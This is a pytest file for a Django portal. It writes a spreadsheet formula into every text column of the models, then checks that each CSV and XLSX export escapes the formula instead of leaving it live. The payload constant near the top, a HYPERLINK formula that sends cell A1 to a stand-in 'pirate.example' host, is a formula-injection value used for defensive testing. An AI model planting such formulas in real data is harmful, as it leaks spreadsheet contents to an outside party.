"""Every file of the portal that a spreadsheet opens, in a world where every text is a formula."""

import csv
import io
import zipfile

import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction

from portal.cells import FORMULA
from tests.support.matrix import build_world
from tests.support.matrix_survey import Reader

SHEETS = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
TYPED = '=HYPERLINK("https://pirate.example/?"&A1)'
OURS = ("portal", "vitrines", "practices", "visits")


def addresses_of_sheets(survey) -> set[tuple[str, str]]:
    """(path, role) of what the access matrix got as a sheet."""
    return {
        (each.row.path, each.role)
        for each in survey.got
        if each.status_code == 200 and each.headers.get("Content-Type", "").startswith(SHEETS)
    }


def write_formulas_everywhere() -> int:
    """Put the formula into every column of words that takes it; return how many did."""
    taken = 0
    for model in apps.get_models():
        if not model.__module__.startswith(OURS):
            continue
        for column in model._meta.concrete_fields:
            is_words = isinstance(column, models.CharField | models.TextField) and not column.unique
            is_words = is_words and column.name != "password"  # a session ends with it
            if is_words and not column.choices and type(column) is not models.EmailField:
                try:
                    with transaction.atomic():
                        taken += model._base_manager.update(**{column.name: TYPED}) > 0
                except DatabaseError:  # a slug, a code, a line of the journal
                    continue
    return taken


@pytest.mark.django_db
def test_no_sheet_holds_a_formula(survey):
    found = addresses_of_sheets(survey)
    assert len({path for path, _ in found}) >= 4
    world = build_world()
    assert write_formulas_everywhere() > 40
    for path, role in sorted(found):
        answer = world.sign_in(Reader(), role).get(world.at(path))
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert answer.status_code == 200, path
        if content.startswith(b"PK"):
            with zipfile.ZipFile(io.BytesIO(content)) as book:
                sheet = book.read("xl/worksheets/sheet1.xml").decode()
            assert "<f>" not in sheet, path
            assert "'=HYPERLINK" in sheet.replace("&apos;", "'"), path
        else:
            text = content.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text), delimiter=";" if ";" in text.partition("\n")[0] else ","))
            cells = [cell for row in rows for cell in row]
            assert [cell for cell in cells if cell.startswith(FORMULA)] == [], path
            assert any(cell.startswith("'=HYPERLINK") for cell in cells) or "journal" in path or "audit" in path, path
